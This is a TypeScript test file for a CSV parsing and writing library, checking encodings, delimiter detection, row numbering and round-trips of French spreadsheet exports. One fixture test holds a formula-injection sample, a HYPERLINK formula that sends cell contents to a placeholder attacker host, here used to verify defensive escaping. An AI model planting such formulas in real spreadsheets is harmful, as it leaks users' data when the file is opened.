import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { decodeCsv } from './encoding'
import { detectDelimiter, parseCsv, readCsvFile } from './parse'
import { csvText } from './write'

const fixture = (name: string) => readFileSync(`${import.meta.dirname}/fixtures/${name}`)

describe('CSV reading', () => {
  it('reads a French Excel "CSV UTF-8" export: BOM, `;`, CRLF, multi-line quoted cells', async () => {
    const file = await readCsvFile(new Blob([fixture('excel-fr-utf8.csv')]))
    expect(file.encoding).toBe('utf-8-bom')
    expect(file.delimiter).toBe(';')
    expect(file.unreadable).toEqual([])
    expect(file.rows.map((row) => row.row)).toEqual([1, 2, 3, 4])
    expect(file.rows[0]?.cells[0]).toBe('id')
    expect(file.rows.every((row) => row.cells.length === 14)).toBe(true)
    expect(file.rows[1]?.cells.slice(1, 5)).toEqual([
      'Budget primitif 2024 – Ville de Lyon',
      'BP',
      'Première ligne\ndeuxième ligne ; avec « guillemets » et "doubles"',
      'budget,finances',
    ])
    expect(file.rows[2]?.cells[1]).toBe('Qualité de l’air ; été 2023')
  })

  it('reads a Windows-1252 file and says so', async () => {
    const file = await readCsvFile(new Blob([fixture('excel-fr-windows-1252.csv')]))
    expect(file.encoding).toBe('windows-1252')
    expect(file.delimiter).toBe(';')
    const [, row] = file.rows
    // Node 20's TextDecoder maps 0x80–0x9F (’ – € œ) as Latin-1, unlike browsers: the e2e
    // import proves those in Chromium; here the letters both decoders agree on.
    expect(row?.cells[1]).toMatch(/^Qualité de l.air . Île-de-France$/)
    expect(row?.cells[2]).toMatch(/^Données départementales, à jour : 5 . l..uf$/)
    expect(row?.cells[3]).toBe('air,santé')
  })

  it('tells UTF-8 without a BOM from UTF-8 with one', () => {
    const bytes = new TextEncoder().encode('id;titre\r\n1;été\r\n')
    expect(decodeCsv(bytes)).toEqual({ text: 'id;titre\r\n1;été\r\n', encoding: 'utf-8' })
    expect(decodeCsv(new Uint8Array([0xef, 0xbb, 0xbf, ...bytes])).encoding).toBe('utf-8-bom')
  })

  it('restores the formulas fixture to the values written', () => {
    const table = parseCsv(fixture('formulas.csv').toString('utf8'))
    expect(table.delimiter).toBe(',')
    expect(table.rows.map((row) => row.cells.slice(1))).toEqual([
      ['title', 'tags'],
      ['=HYPERLINK("https://attacker.example/?"&A1,"Cliquez")', '-brouillon,budget'],
      ['+33 1 23 45 67 89', '@admin'],
      ["'=1+1 (with its quote)", "'hello"],
      ['\t=1+1', '\r=2+2'],
      ['- Budget annexe', ''],
    ])
  })

  it.each([
    ['id;title,x\n1;2,3\n', ';'],
    ['id,title,x;y\n1,2,3;4\n', ','],
    ['id\ttitle\n1\t2\n', '\t'],
    ['"a;b",c,d\n', ','],
    ['id\n1\n', ';'],
  ] as const)('detects the delimiter of %j', (text, delimiter) => {
    expect(detectDelimiter(text)).toBe(delimiter)
  })

  it('numbers rows as a spreadsheet does, skipping blank ones', () => {
    const table = parseCsv('id;note\r\n1;"a\nb"\r\n\r\n2;c\r\n')
    expect(table.rows).toEqual([
      { row: 1, cells: ['id', 'note'] },
      { row: 2, cells: ['1', 'a\nb'] },
      { row: 4, cells: ['2', 'c'] },
    ])
  })

  it('sets aside a row whose quote is never closed', () => {
    const table = parseCsv('id;title\na1;New\nb2;"never closed\n')
    expect(table.rows.map((row) => row.row)).toEqual([1, 2])
    expect(table.unreadable).toEqual([{ row: 3, reason: 'unterminated-quote' }])
  })

  it('round-trips any cell through write then read', () => {
    const rows = [['=x', "'=x", "''+y", '-', '@', '', ' pad ', 'a;b,c\td', 'q"q', 'l1\r\nl2', "'"]]
    for (const delimiter of [';', ',', '\t'] as const)
      expect(parseCsv(csvText(rows, delimiter)).rows.map((row) => row.cells)).toEqual(rows)
  })
})
